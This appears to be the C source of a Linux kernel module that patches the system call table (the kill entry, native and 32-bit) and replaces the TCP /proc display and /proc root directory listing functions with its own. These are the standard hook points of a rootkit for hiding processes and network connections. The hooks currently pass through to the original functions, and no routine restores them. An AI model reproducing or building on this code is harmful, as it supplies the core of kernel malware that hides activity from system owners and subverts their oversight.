/* Replaces entries of tables of functions by its own, which call what was there before. */
#include <linux/fs.h>
#include <linux/seq_file.h>
#include <linux/syscalls.h>
#include "tamper.h"

typedef asmlinkage long (*call)(const struct pt_regs *registers);

static call before_call, before_compat;
static asmlinkage long own_call(const struct pt_regs *registers) { return before_call(registers); }
static asmlinkage long own_compat(const struct pt_regs *registers) { return before_compat(registers); }

static int (*before_show)(struct seq_file *file, void *what);
static int own_show(struct seq_file *file, void *what) { return before_show(file, what); }

static int (*before_iterate)(struct file *file, struct dir_context *context);
static int own_iterate(struct file *file, struct dir_context *context)
{
    return before_iterate(file, context);
}

static int __init begin(void)
{
    call *calls = (call *)lookup("sys_call_table");
    call *compat = (call *)lookup("ia32_sys_call_table");
    struct seq_operations *tcp = (struct seq_operations *)lookup("tcp4_seq_ops");
    struct file_operations *proc = (struct file_operations *)lookup("proc_root_operations");
    void *own;
    if (calls == NULL || tcp == NULL || proc == NULL)
        return -ENOENT;
    before_call = calls[__NR_kill];
    own = own_call;
    poke(&calls[__NR_kill], &own, sizeof own);
    /* Kernels that switch by code have no table of 32-bit calls. */
    if (compat != NULL) {
        before_compat = compat[37];
        own = own_compat;
        poke(&compat[37], &own, sizeof own);
    }
    before_show = tcp->show;
    own = own_show;
    poke(&tcp->show, &own, sizeof own);
    before_iterate = proc->iterate_shared;
    own = own_iterate;
    poke(&proc->iterate_shared, &own, sizeof own);
    return 0;
}
module_init(begin);
